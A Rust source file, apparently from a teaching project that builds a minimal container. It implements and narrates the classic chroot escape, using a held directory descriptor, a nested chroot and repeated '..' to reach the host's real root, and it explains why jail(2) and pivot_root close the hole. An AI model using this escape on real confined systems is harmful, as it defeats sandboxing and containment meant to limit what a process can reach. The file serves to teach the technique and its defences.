//! The classic chroot escape: why chroot(2) is not a jail.
//!
//! chroot only changes where path lookups *start*. The kernel stops ".." at
//! the process's root — but only when the walk passes through that root. A
//! root process can chroot again into a subdirectory while holding a
//! descriptor (or working directory) that lies outside the new root; from
//! there, ".." climbs freely to the real "/". FreeBSD's jail(2) (2000) and
//! Linux's mount namespaces with pivot_root (chapter 02) close this hole.

use crate::child_report::ChildFailure;
use crate::narrate::Narrator;
use nix::fcntl::{open, OFlag};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir, mkdir};

/// The directory the escape creates inside the rootfs (removed by the parent afterwards).
pub const ESCAPE_DIR: &str = ".minibox-escape";

/// From inside a chroot, as root, get back to the host's "/".
pub fn break_out_of_chroot(narrator: &Narrator) -> Result<(), ChildFailure> {
    let fail = |step: &str| {
        let step = step.to_string();
        move |errno| ChildFailure::new(step, errno)
    };
    // ANCHOR: escape
    // 1. Keep a handle on the current directory: the root of our chroot.
    let old_root =
        open("/", OFlag::O_DIRECTORY | OFlag::O_RDONLY, Mode::empty()).map_err(fail("open /"))?;
    // 2. chroot into a subdirectory. Our root moves down one level; the
    //    descriptor still points at a directory that is now *outside* it.
    match mkdir(ESCAPE_DIR, Mode::from_bits_truncate(0o700)) {
        Ok(()) | Err(nix::errno::Errno::EEXIST) => {}
        Err(errno) => return Err(fail("mkdir")(errno)),
    }
    chroot(ESCAPE_DIR).map_err(fail("chroot into a subdirectory"))?;
    // 3. Step back out through the descriptor: the working directory is now
    //    outside our root, where ".." is never stopped.
    fchdir(&old_root).map_err(fail("fchdir"))?;
    // 4. Climb. At the real "/", ".." is "/" itself, so extra steps are harmless.
    for _ in 0..1024 {
        chdir("..").map_err(fail("chdir .."))?;
    }
    // 5. Make the real "/" our root again.
    chroot(".").map_err(fail("chroot ."))?;
    // ANCHOR_END: escape
    narrator.syscall(
        "open(\"/\") + chroot(subdir)",
        "hold a directory that is now outside our root",
    );
    narrator.syscall(
        "fchdir(fd) + chdir(\"..\") × 1024",
        "climb: nothing stops \"..\" outside the root",
    );
    narrator.syscall("chroot(\".\")", "we are back on the host's real \"/\"");
    narrator.observe("escaped: the command below sees the host's filesystem");
    Ok(())
}
